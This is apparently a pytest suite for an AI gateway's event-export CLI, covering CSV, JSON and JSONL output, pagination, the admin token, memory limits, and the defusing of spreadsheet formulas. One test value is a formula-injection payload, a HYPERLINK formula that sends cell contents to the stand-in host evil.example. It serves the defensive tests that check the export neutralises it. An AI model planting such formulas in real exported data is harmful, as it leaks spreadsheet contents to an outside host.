"""`kt events export`: a real gateway's events, from its SQLite store and over HTTP, as CSV, JSON and JSONL."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import time
import tracemalloc
from pathlib import Path
from typing import Any

import openai
import pytest
from click.testing import CliRunner

from gateway.events.store import EventStore
from kt.cli import cli as kt_cli
from kt.event_export import csv_header, safe_cell
from sync.clock import rfc3339
from tests.gateway_harness import write_config
from tests.kt_process import run_kt

TOKEN = "adm-export-token"
HOSTILE_USER = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
TERM = "project-bluebird"


def kt(*args: str, **env: str) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if k not in ("KEEPTRUSTS_ADMIN_TOKEN", "FORCE_COLOR")}
    return run_kt(*args, timeout=120, env={**environ, **env})


def config(path: Path) -> Path:
    return write_config(path, [{"id": "demo", "provider": "mock", "model": "demo-model"}],
                        chain=["dlp-filter", "pii-detector", "audit-logger"],
                        policy={"dlp-filter": {"blocked_terms": [TERM], "action": "block"},
                                "pii-detector": {"action": "redact"}, "audit-logger": {}})


def traffic(gw: Any) -> list[str]:
    """An allowed, a blocked and a redacted request, and one from a user id that is a formula."""
    client = openai.OpenAI(base_url=gw.base_url, api_key="sk-client", max_retries=0)
    ids = []
    for text, user in (("hello", "alice"), (f"tell me about {TERM}", "bob"), ("mail me at ann@example.com", "carol"),
                       ("hi again", HOSTILE_USER)):
        try:
            raw = client.chat.completions.with_raw_response.create(
                model="demo-model", messages=[{"role": "user", "content": text}], extra_headers={"X-User-ID": user})
            ids.append(raw.headers["x-request-id"])
        except openai.APIStatusError as exc:
            assert exc.status_code == 409
            ids.append(exc.response.headers["x-request-id"])
    return ids


@pytest.fixture
def store_of_a_real_gateway(tmp_path: Path, start_gateway: Any) -> tuple[Path, list[str]]:
    gw = start_gateway(config(tmp_path / "policy-config.yaml"), state_dir=tmp_path / "state")
    ids = traffic(gw)
    gw.stop()  # drains: every event is in the store
    return tmp_path / "state" / "events.db", ids


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_from_a_store_one_row_per_event_with_per_policy_columns(store_of_a_real_gateway: Any) -> None:
    db, request_ids = store_of_a_real_gateway
    r = kt("events", "export", "--db", str(db), "--format", "csv")
    assert r.returncode == 0, r.stderr
    table = rows(r.stdout)
    assert [row["request_id"] for row in table] == request_ids  # oldest first, one row each
    header = next(csv.reader(io.StringIO(r.stdout)))
    assert header == csv_header(["audit-logger", "dlp-filter", "pii-detector"])
    allowed, blocked, redacted, hostile = table
    assert (blocked["verdict"], blocked["policy"]) == ("block", "dlp-filter")
    assert (blocked["policy.dlp-filter.verdict"], blocked["policy.dlp-filter.reason_code"]) == (
        "block", "dlp_term_detected")
    assert blocked["policy.pii-detector.verdict"] == ""  # the chain short-circuited: it never ran
    assert redacted["policy.pii-detector.verdict"] == "redact" and redacted["verdict"] == "redact"
    assert allowed["policy.dlp-filter.verdict"] == "allow" and float(allowed["policy.dlp-filter.latency_ms"]) >= 0
    # A client-chosen value that a spreadsheet would run as a formula is defused, not altered otherwise.
    assert hostile["user_id"] == "'" + HOSTILE_USER and allowed["user_id"] == "alice"
    assert r.stderr.strip() == "Exported 4 events (csv)"


def test_json_and_jsonl_hold_the_whole_events(store_of_a_real_gateway: Any, tmp_path: Path) -> None:
    db, _ = store_of_a_real_gateway
    stored = EventStore(db, readonly=True).query(limit=100)
    r = kt("events", "export", "--db", str(db), "--format", "json")
    assert r.returncode == 0 and json.loads(r.stdout) == stored
    r = kt("events", "export", "--db", str(db))  # jsonl is the default
    assert [json.loads(line) for line in r.stdout.splitlines()] == stored
    out = tmp_path / "out.json"
    r = kt("events", "export", "--db", str(db), "--format", "json", "--output", str(out), "--since", "1h")
    assert r.returncode == 0 and r.stdout == "" and json.loads(out.read_text()) == stored
    assert f"Exported 4 events (json) to {out}" in r.stderr and not Path(f"{out}.part").exists()
    r = kt("events", "export", "--db", str(db), "--format", "json", "--until", "2000-01-01T00:00:00Z")
    assert r.returncode == 0 and json.loads(r.stdout) == []
    r = kt("events", "export", "--db", str(db), "--format", "csv", "--until", "2000-01-01T00:00:00Z")
    assert len(rows(r.stdout)) == 0 and r.stdout.startswith("id,timestamp,verdict,")


def test_csv_file_opens_in_a_spreadsheet_with_utf8(store_of_a_real_gateway: Any, tmp_path: Path) -> None:
    db, _ = store_of_a_real_gateway
    out = tmp_path / "events.csv"
    assert kt("events", "export", "--db", str(db), "--format", "csv", "-o", str(out)).returncode == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes spreadsheets read UTF-8
    assert data.count(b"\r\n") == 5  # the excel dialect: CRLF after the header and each row
    assert len(rows(data.decode("utf-8-sig"))) == 4


def test_progress_goes_to_stderr_never_stdout(store_of_a_real_gateway: Any) -> None:
    db, _ = store_of_a_real_gateway
    r = kt("events", "export", "--db", str(db), FORCE_COLOR="1")  # rich draws as on a terminal
    assert r.returncode == 0
    assert "exporting events" in r.stderr
    assert len([json.loads(line) for line in r.stdout.splitlines()]) == 4


def test_over_http_many_pages_with_the_admin_token(tmp_path: Path, start_gateway: Any,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    state = tmp_path / "state"
    gw = start_gateway(config(tmp_path / "policy-config.yaml"), state_dir=state)
    request_ids = traffic(gw)
    gw.stop()
    # Three pages' worth of events before the real ones: clones of a real event with new ids.
    sample = EventStore(state / "events.db", readonly=True).query(limit=1)[0]
    real = EventStore(state / "events.db", readonly=True).query(limit=100)
    store = EventStore(state / "events.db")
    store.prune(float("inf"))
    old = rfc3339(time.time() - 7200)  # the first 500 are two hours old
    store.add([{**sample, "id": f"evt_bulk{i:05d}", "request_id": f"req_bulk{i}",
                **({"timestamp": old} if i < 500 else {})} for i in range(2500)])
    store.add(real)
    store.close()
    monkeypatch.setenv("KEEPTRUSTS_ADMIN_TOKEN", TOKEN)
    gw = start_gateway(config(tmp_path / "policy-config.yaml"), state_dir=state)

    r = kt("events", "export", "--gateway", gw.url)
    assert r.returncode == 1 and "refused the admin token" in r.stderr and "Traceback" not in r.stderr
    r = kt("events", "export", "--gateway", gw.url, "--format", "jsonl", KEEPTRUSTS_ADMIN_TOKEN=TOKEN)
    assert r.returncode == 0, r.stderr
    got = [json.loads(line)["request_id"] for line in r.stdout.splitlines()]
    assert got == [f"req_bulk{i}" for i in range(2500)] + request_ids
    r = kt("events", "export", "--gateway", gw.url, "--format", "csv", KEEPTRUSTS_ADMIN_TOKEN=TOKEN)
    table = rows(r.stdout)
    # The columns come from the running config's chain, in chain order.
    assert next(csv.reader(io.StringIO(r.stdout))) == csv_header(["dlp-filter", "pii-detector", "audit-logger"])
    assert len(table) == 2504 and table[-3]["policy.dlp-filter.verdict"] == "block"
    r = kt("events", "export", "--gateway", gw.url, "--format", "json", "--since", "1h",
           KEEPTRUSTS_ADMIN_TOKEN=TOKEN)
    since_1h = [e["request_id"] for e in json.loads(r.stdout)]
    assert since_1h == [f"req_bulk{i}" for i in range(500, 2500)] + request_ids


def test_streams_with_bounded_memory(tmp_path: Path, store_of_a_real_gateway: Any) -> None:
    db, _ = store_of_a_real_gateway
    sample = EventStore(db, readonly=True).query(limit=1)[0]
    store = EventStore(db)
    n = 10_000  # few, long events: the export is over 20 MB, yet tracemalloc (slow per object) stays quick
    for start in range(0, n, 5000):
        store.add([{**sample, "id": f"evt_many{i:06d}", "user_id": f"user-{i}" * 200}
                   for i in range(start, start + 5000)])
    store.close()
    for fmt in ("csv", "json"):
        out = tmp_path / f"all.{fmt}"
        CliRunner().invoke(kt_cli, ["events", "export", "--db", str(db), "--until", "1h", "--format", fmt])  # imports
        tracemalloc.start()
        result = CliRunner().invoke(kt_cli, ["events", "export", "--db", str(db), "--format", fmt, "-o", str(out)])
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert result.exit_code == 0, result.output
        size = out.stat().st_size
        assert size > 20_000_000 and peak < size / 6, (fmt, size, peak)  # one page at a time, never the export


def test_unknown_policies_and_fields_are_kept_not_dropped() -> None:
    from kt.event_export import csv_row

    event = {"id": "evt_1", "verdict": "block", "future_field": [1, 2],
             "policies": [{"policy": "dlp-filter", "verdict": "allow", "reason_code": "passed", "latency_ms": 0.5},
                          {"policy": "dlp-filter", "verdict": "block", "reason_code": "dlp_term_detected",
                           "latency_ms": 0.25},
                          {"policy": "agents", "verdict": "block", "reason_code": "agent_rate_limited"}]}
    row = dict(zip(csv_header(["dlp-filter"]), csv_row(event, ["dlp-filter"]), strict=True))
    assert (row["policy.dlp-filter.verdict"], row["policy.dlp-filter.reason_code"]) == ("block", "dlp_term_detected")
    assert row["policy.dlp-filter.latency_ms"] == "0.75"
    assert row["policies.other"] == "agents=block:agent_rate_limited"
    assert json.loads(row["extra"]) == {"future_field": [1, 2]}


@pytest.mark.parametrize("text", ["=1+2", "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"])
def test_formula_cells_are_defused(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert safe_cell("gpt-4o") == "gpt-4o" and safe_cell(-1.5) == "-1.5" and safe_cell(None) == ""
    assert safe_cell(True) == "true" and safe_cell({"a": "=x"}) == '{"a":"=x"}'


def test_bad_arguments_are_clear_errors(tmp_path: Path) -> None:
    r = kt("events", "export", "--db", str(tmp_path / "none.db"))
    assert r.returncode == 1 and "cannot open event store" in r.stderr
    r = kt("events", "export", "--db", str(tmp_path / "none.db"), "--since", "yesterday")
    assert r.returncode == 1 and "duration like 5m" in r.stderr  # kt's usage errors exit 1
    r = kt("events", "export", "--format", "xlsx")
    assert r.returncode == 1 and "csv" in r.stderr
